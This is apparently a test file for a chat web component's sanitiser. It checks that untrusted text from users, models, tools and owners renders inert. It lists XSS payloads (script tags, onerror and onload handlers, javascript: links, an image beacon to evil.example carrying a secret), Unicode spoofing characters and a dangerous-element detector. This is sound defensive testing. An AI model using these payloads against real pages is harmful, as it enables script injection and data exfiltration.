// Untrusted text through every door: user, model, tool, and the owner's own HTML.

import { MarkdownWriter } from '../../src/element/markdown/writer.js';
import { Sanitiser } from '../../src/element/sanitise.js';
import { assert } from './assert.js';
import { open, settle, until } from './mount.js';
import { addToCart, answer, confirm, showOrders, slot, tool } from './samples.js';

declare global {
  interface Window {
    /** Set by a payload that runs. */
    pwned?: boolean;
  }
}

const attacks = [
  '<img src=x onerror="window.pwned=true">',
  '<script>window.pwned=true</script>',
  '<svg onload="window.pwned=true">',
  '<iframe srcdoc="<script>parent.pwned=true</script>"></iframe>',
  `[press](${'java'}script:window.pwned=true)`,
  '[press](data:text/html,<script>window.pwned=true</script>)',
  '![x](https://evil.example/?secret=1)',
  '<a href="java&#10;script:window.pwned=true">x</a>',
  '<style>*{display:none}</style>',
];

/** What may not stand anywhere in the element, whatever it was told. */
function dangers(root: ParentNode): readonly string[] {
  const found = [...root.querySelectorAll('script, iframe, object, embed, form, link, base, meta')];
  const handlers = [...root.querySelectorAll('*')].filter((element) =>
    element.getAttributeNames().some((name) => name.startsWith('on') || name === 'style'),
  );
  const links = [...root.querySelectorAll('a[href]')].filter(
    (link) => !/^(https?|mailto|tel):/.test(link.getAttribute('href') ?? ''),
  );
  const images = [...root.querySelectorAll('img')].filter(
    (image) => image.hasAttribute('src') && !image.src.startsWith('data:'),
  );
  return [...found, ...handlers, ...links, ...images].map((element) => element.outerHTML);
}

interface Payload {
  readonly id: unknown;
  readonly payload: unknown;
}

async function shared(name: string): Promise<readonly Payload[]> {
  const response = await fetch(`/shared-sanitise/${name}`);
  if (!response.ok) return [];
  const lines = (await response.text()).split('\n').filter((line) => line !== '');
  return lines.flatMap((line) => {
    const row: unknown = JSON.parse(line);
    const isRow = typeof row === 'object' && row !== null && 'id' in row && 'payload' in row;
    return isRow ? [{ id: row.id, payload: row.payload }] : [];
  });
}

describe('untrusted text', () => {
  it('is inert as a user’s, a model’s and a tool’s', async () => {
    const chat = await open();
    const { renderer } = chat.assistant;
    for (const attack of attacks) {
      renderer.message('user', attack);
      renderer.message('assistant', attack);
      renderer.results(showOrders, answer([{ a: attack, b: attack, [attack]: 1 }]));
      renderer.detail(addToCart, {}, attack);
      renderer.toolError(tool('bad', attack), attack);
      renderer.trace?.({ tool: attack, args: { a: attack }, text: attack, isError: false });
    }
    renderer.confirm(
      confirm(tool('t', attacks[0] ?? ''), [slot(attacks[1] ?? '', {}, attacks[2])]),
    );
    await until(() => chat.findAll('agent-chat-confirm-card h3').length > 0);
    await settle(10);
    assert.deepEqual(dangers(chat.root), []);
    assert.equal(window.pwned, undefined);
  });

  it('follows only links to http, https, mailto and tel, and tells the target nothing', async () => {
    const chat = await open();
    chat.assistant.renderer.message(
      'assistant',
      '[a](https://a.example) <https://b.example> [c](ftp://c)',
    );
    await until(() => chat.findAll('agent-chat-bubble a').length > 0);
    const [link] = chat.findAll('agent-chat-bubble a');
    assert.equal(link?.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(chat.findAll('a[href^="ftp"]').length, 0);
  });

  it('shows no character that reorders, hides or imitates others', async () => {
    const chat = await open();
    const { renderer } = chat.assistant;
    const text = 'pay \u202eecila\u202c\u200b\u{e0041}';
    renderer.message('assistant', `[${text}](https://a.example)`);
    renderer.results(
      showOrders,
      answer([
        { [text]: text, b: text },
        { [text]: text, b: text },
      ]),
    );
    renderer.detail(addToCart, {}, text);
    renderer.toolError(tool('bad', text), text);
    renderer.status(text);
    const actions = [{ id: 'a', label: text, run: () => undefined }];
    renderer.notice?.({ id: 'n', kind: 'handoff', text, actions });
    renderer.confirm(confirm(tool(`t_${text}`, text), [slot(`s_${text}`, { title: text }, text)]));
    await until(() => chat.findAll('agent-chat-confirm-card h3').length > 0);
    await settle(10);
    const seen = `${chat.root.textContent}${chat.root.innerHTML}`;
    assert.deepEqual(seen.match(/[\u202a-\u202e\u200b\u{e0000}-\u{e007f}]/gu), null);
    // A value is sent as it is, and the card shows that there is something in it.
    assert.match(chat.find('agent-chat-confirm-card dd').innerText, /\ufffd/);
  });

  it('loads images only from hosts that the owner allows', async () => {
    const chat = await open();
    chat.element.imageHosts = ['images.example'];
    const text = '![a cat](https://images.example/a.png) ![pixel](https://evil.example/p.png)';
    chat.assistant.renderer.message('assistant', text);
    await until(() => chat.findAll('agent-chat-bubble img').length > 0);
    const images = chat.findAll('agent-chat-bubble img').map((image) => image.getAttribute('src'));
    assert.deepEqual(images, ['https://images.example/a.png']);
    assert.match(chat.find('agent-chat-bubble').innerText, /pixel/);
  });

  it('takes one host that is given as a text for that host, and for no part of its name', async () => {
    const chat = await open();
    Reflect.set(chat.element, 'imageHosts', 'images.example');
    const text = '![a cat](https://images.example/a.png) ![pixel](https://s.example/p.png)';
    chat.assistant.renderer.message('assistant', text);
    await until(() => chat.findAll('agent-chat-bubble img').length > 0);
    const images = chat.findAll('agent-chat-bubble img').map((image) => image.getAttribute('src'));
    assert.deepEqual(images, ['https://images.example/a.png']);
  });

  it('is inert for every payload of the shared data, as Markdown and as HTML', async () => {
    const files = ['blns', 'xss-payloadbox', 'h5sc-items', 'h5sc-vectors', 'dompurify-expect'];
    const payloads = (await Promise.all(files.map((file) => shared(`${file}.jsonl`)))).flat();
    if (payloads.length === 0) console.log('skipped: ../shared/data/sanitise is not there');
    const sanitiser = new Sanitiser([]);
    const failures: string[] = [];
    for (const { id, payload } of payloads) {
      if (typeof payload !== 'string') continue;
      const target = document.createElement('div');
      const writer = new MarkdownWriter(target, { imageHosts: [], base: document.baseURI });
      writer.write(payload);
      writer.end();
      const clean = document.createElement('div');
      clean.append(sanitiser.sanitise(payload));
      if (dangers(target).length > 0 || dangers(clean).length > 0) failures.push(String(id));
    }
    assert.deepEqual(failures, []);
    assert.equal(window.pwned, undefined);
  });
});

describe('an owner’s renderer', () => {
  const show = async (draw: () => Node | string | undefined) => {
    const chat = await open();
    chat.element.renderers = { show_orders: draw };
    await settle();
    chat.assistant.renderer.results(showOrders, answer([{ a: 1 }, { a: 2 }]));
    await until(() => chat.findAll('agent-chat-results').length > 0);
    await settle(10);
    return chat;
  };

  it('may give a node, which is shown as it is', async () => {
    const own = document.createElement('section');
    const chat = await show(() => own);
    assert.equal(chat.find('agent-chat-results section'), own);
  });

  it('may give HTML, which is sanitised', async () => {
    const chat = await show(() => `<b id="x" style="color:red">Fine</b>${attacks.join('')}`);
    await until(() => chat.root.textContent.includes('Fine'));
    assert.deepEqual(dangers(chat.find('agent-chat-results')), []);
    assert.equal(chat.findAll('agent-chat-results #x').length, 0);
  });

  it('leaves the result to the element when it fails or gives nothing', async () => {
    for (const draw of [
      () => undefined,
      () => {
        throw new Error('broken');
      },
    ]) {
      const chat = await show(draw);
      assert.equal(chat.findAll('.cards > li').length, 2);
    }
  });
});
